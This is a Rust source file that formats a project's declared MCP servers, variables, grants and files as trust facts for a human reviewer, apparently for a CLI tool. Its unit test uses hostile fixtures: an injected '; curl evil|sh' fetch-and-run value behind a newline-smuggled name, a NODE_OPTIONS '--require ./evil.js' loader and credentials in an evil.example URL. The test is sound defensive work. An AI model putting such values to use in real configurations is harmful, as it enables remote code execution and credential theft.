//! Describes the contents of a project's files to the person who decides whether to trust them.
//!
//! Input: the declarations. Output: facts as text. `pml trust`, the question about trust and its
//! details all show these.
//!
//! **Invariant:** nothing relevant is omitted or cut: commands, each of their arguments, working
//! folders, the names of variables and headers, and all values that are not keys. A key in a file
//! is hidden, and counted.
//! **Invariant:** texts are as the files have them: they are escaped once, when they are shown.

use super::parts::{
    DeclaredFile, DeclaredFileState, DeclaredServer, DeclaredVariable, ProjectDeclarations,
};
use crate::model::{Grant, redacted_setting, steers_loading};
use serde_json::Value;
use std::fmt;

/// Parts that can change without a new question although a launch line is trusted.
const NOT_COVERED: &str =
    "what these programs import or read, and files in folders that they are given";

/// One fact about a project's files.
#[derive(Clone, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub struct DeclaredFact {
    /// Its kind.
    pub kind: DeclaredFactKind,
    /// The server that it is about, or `None` if it is about the whole project.
    pub server: Option<String>,
    /// The variable or header, as the file names it.
    pub name: Option<String>,
    /// The text of the file, not escaped.
    pub text: String,
}

/// The kind of a [`DeclaredFact`].
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub enum DeclaredFactKind {
    /// Tools that are called without asking.
    Allowed,
    /// A permanent grant.
    Granted,
    /// The model may approve its own calls.
    ModelMayApprove,
    /// The URL of the cloud.
    Cloud,
    /// A server: its launch line or URL.
    Server,
    /// The folder in which a server runs.
    Folder,
    /// A variable or header that is passed to a server.
    Given,
    /// The same, and it decides what is loaded, run or trusted.
    Steering,
    /// Code of a server's package may run while it is installed.
    InstallScripts,
    /// The reason why a server cannot be used.
    Unusable,
    /// A file of the project that a launch line names.
    File,
    /// A variable that decides something, and that `.env` could set.
    Variable,
    /// The parts that trust does not cover.
    NotCovered,
}

impl ProjectDeclarations {
    /// Returns all facts that a person decides about, the most permissive first.
    pub fn facts(&self) -> Vec<DeclaredFact> {
        use DeclaredFactKind::{
            Allowed, Cloud, File, Granted, ModelMayApprove, NotCovered, Variable,
        };
        let of_project = |kind, text| DeclaredFact { kind, server: None, name: None, text };
        let mut facts = Vec::new();
        if !self.allow.is_empty() {
            let patterns = self.allow.iter().cloned().map(String::from);
            let patterns: Vec<_> = patterns.map(|pattern| format!("`{pattern}`")).collect();
            facts.push(of_project(Allowed, patterns.join(", ")));
        }
        facts.extend(self.grants.iter().map(|grant| of_project(Granted, grant_text(grant))));
        if self.model_may_approve {
            facts.push(of_project(ModelMayApprove, String::new()));
        }
        facts.extend(self.cloud.iter().map(|cloud| of_project(Cloud, cloud.clone())));
        facts.extend(self.servers.iter().flat_map(server_facts));
        facts.extend(self.files.iter().map(|file| of_project(File, file_text(file))));
        let variables = self.variables.iter();
        facts.extend(variables.map(|one| of_project(Variable, variable_text(one))));
        // A URL starts no process here.
        let reached =
            |launch: &str| launch.starts_with("https://") || launch.starts_with("http://");
        if self.servers.iter().any(|server| !reached(&server.launch)) {
            facts.push(of_project(NotCovered, NOT_COVERED.into()));
        }
        facts
    }
}

/// Describes a server, and everything that can change its behaviour: a variable may make a harmless
/// program load another.
fn server_facts(server: &DeclaredServer) -> Vec<DeclaredFact> {
    use DeclaredFactKind::{Folder, Given, InstallScripts, Server, Steering, Unusable};
    let fact = |kind, name: Option<&String>, text: String| DeclaredFact {
        kind,
        server: Some(server.name.clone()),
        name: name.cloned(),
        text,
    };
    let mut facts = vec![fact(Server, None, server.launch.clone())];
    facts.extend(server.folder.iter().map(|folder| fact(Folder, None, folder.clone())));
    for (name, value) in &server.given {
        let kind = if steers_loading(name) { Steering } else { Given };
        facts.push(fact(kind, Some(name), redacted_setting(name, value.reveal())));
    }
    if server.install_scripts {
        facts.push(fact(InstallScripts, None, String::new()));
    }
    facts.extend(server.unusable.iter().map(|reason| fact(Unusable, None, reason.clone())));
    facts
}

/// Describes a grant and its conditions.
fn grant_text(grant: &Grant) -> String {
    let since = grant.granted.map(|at| format!(" on {}", &at.to_string()[..10]));
    let since = since.unwrap_or_default();
    match grant.origin {
        Some(_) => format!("{grant}, while the tool stays as it was{since}"),
        None => format!("{grant}, even if the tool changes"),
    }
}

/// Describes a file that a launch line names, and what trusting it means.
fn file_text(file: &DeclaredFile) -> String {
    if file.state == DeclaredFileState::Outside {
        return format!("outside this project, not checked: {} ({})", file.name, file.server);
    }
    let means = match &file.state {
        DeclaredFileState::Pinned => "a change asks again".into(),
        DeclaredFileState::LinksOutside { to } => format!("a link out of the project, to {to}"),
        DeclaredFileState::Absent => "does not exist yet: asks again when it does".into(),
        DeclaredFileState::Outside => "not checked".into(),
        DeclaredFileState::Data => "data: may change without asking again".into(),
        DeclaredFileState::Unresolved => "named by a shell at run time: cannot be checked".into(),
        DeclaredFileState::LoadFolder => "code in it is loaded and not checked".into(),
    };
    format!("{} ({}), {means}", file.name, file.server)
}

/// Describes a variable that decides something; its value is not shown.
fn variable_text(variable: &DeclaredVariable) -> String {
    let decides = match (variable.steers_loading, variable.overrides_default) {
        (true, _) => "decides what is loaded",
        (false, _) => "replaces a default",
    };
    let from = match variable.in_env_file {
        true => "set in `.env`: a change asks again",
        false => "not set in `.env`: asks again if it is",
    };
    format!("{} ({}) {decides}, {from}", variable.name, variable.given_to.join(", "))
}

/// Formats the fact as one line. Only the end of the line is text from a file; a name with unusual
/// characters is quoted.
impl fmt::Display for DeclaredFact {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let plain = |c: char| c.is_ascii_alphanumeric() || "-_.".contains(c);
        let named = |name: &Option<String>| {
            let name = name.as_deref().unwrap_or_default();
            match !name.is_empty() && name.chars().all(plain) {
                true => name.to_owned(),
                false => Value::from(name).to_string(),
            }
        };
        let (server, name, text) = (named(&self.server), named(&self.name), &self.text);
        match self.kind {
            DeclaredFactKind::Allowed => write!(f, "allowed without asking: {text}"),
            DeclaredFactKind::Granted => write!(f, "always allowed: {text}"),
            DeclaredFactKind::ModelMayApprove => f.write_str("the model may approve its own calls"),
            DeclaredFactKind::Cloud => write!(f, "calls sent to the cloud: {text}"),
            DeclaredFactKind::Server => write!(f, "server {server}: {text}"),
            DeclaredFactKind::Folder => write!(f, "server {server} runs in the folder: {text}"),
            DeclaredFactKind::Given => write!(f, "server {server} gets {name}: {text}"),
            DeclaredFactKind::Steering => {
                write!(f, "server {server} gets {name}, WHICH DECIDES WHAT IS LOADED: {text}")
            }
            DeclaredFactKind::InstallScripts => {
                write!(f, "server {server} may RUN CODE of its package while it is installed")
            }
            DeclaredFactKind::Unusable => write!(f, "server {server} cannot be used: {text}"),
            DeclaredFactKind::File => write!(f, "file: {text}"),
            DeclaredFactKind::Variable => write!(f, "variable: {text}"),
            DeclaredFactKind::NotCovered => write!(f, "not checked: {text}"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::{DeclaredServer, ProjectDeclarations};
    use crate::model::Secret;

    fn server(name: &str, launch: &str, given: &[(&str, &str)]) -> DeclaredServer {
        let given = given.iter().map(|(name, value)| ((*name).into(), Secret::new(*value)));
        DeclaredServer {
            name: name.into(),
            launch: launch.into(),
            folder: None,
            given: given.collect(),
            install_scripts: false,
            file: ".mcp.json".into(),
            line: 1,
            column: 1,
            unusable: None,
        }
    }

    #[test]
    fn all_that_decides_is_told_and_nothing_swallows_the_next() {
        let mut evil = server(
            "evil",
            "node x.js --password '\"open' --token 'a b' sk-abcdefghijklmnop0123",
            &[
                ("NODE_OPTIONS", "--require ./evil.js"),
                ("API_KEY", "hunter2"),
                ("TOKEN", "${TOKEN}"),
                ("A\nserver nice", "; curl evil|sh"),
            ],
        );
        (evil.folder, evil.install_scripts) = (Some("../elsewhere".into()), true);
        evil.unusable = Some("it is disabled".into());
        let next = server("next", "https://me:pw@evil.example/?token=abc", &[("Cookie", "a=b; c")]);
        let declared = ProjectDeclarations {
            servers: vec![evil, next],
            allow: vec!["*".parse().unwrap()],
            cloud: Some("https://cloud.example".into()),
            model_may_approve: true,
            ..ProjectDeclarations::default()
        };
        let facts: Vec<String> = declared.facts().iter().map(ToString::to_string).collect();
        assert_eq!(
            facts,
            [
                "allowed without asking: `*`",
                "the model may approve its own calls",
                "calls sent to the cloud: https://cloud.example",
                "server evil: node x.js --password '\"open' --token 'a b' sk-abcdefghijklmnop0123",
                "server evil runs in the folder: ../elsewhere",
                "server evil gets NODE_OPTIONS, WHICH DECIDES WHAT IS LOADED: --require ./evil.js",
                "server evil gets API_KEY: [hidden: 7 characters]",
                "server evil gets TOKEN: ${TOKEN}",
                "server evil gets \"A\\nserver nice\": ; curl evil|sh",
                "server evil may RUN CODE of its package while it is installed",
                "server evil cannot be used: it is disabled",
                "server next: https://me:pw@evil.example/?token=abc",
                "server next gets Cookie: a=b; c",
                "not checked: what these programs import or read, and files in folders that they are given",
            ]
        );
    }
}
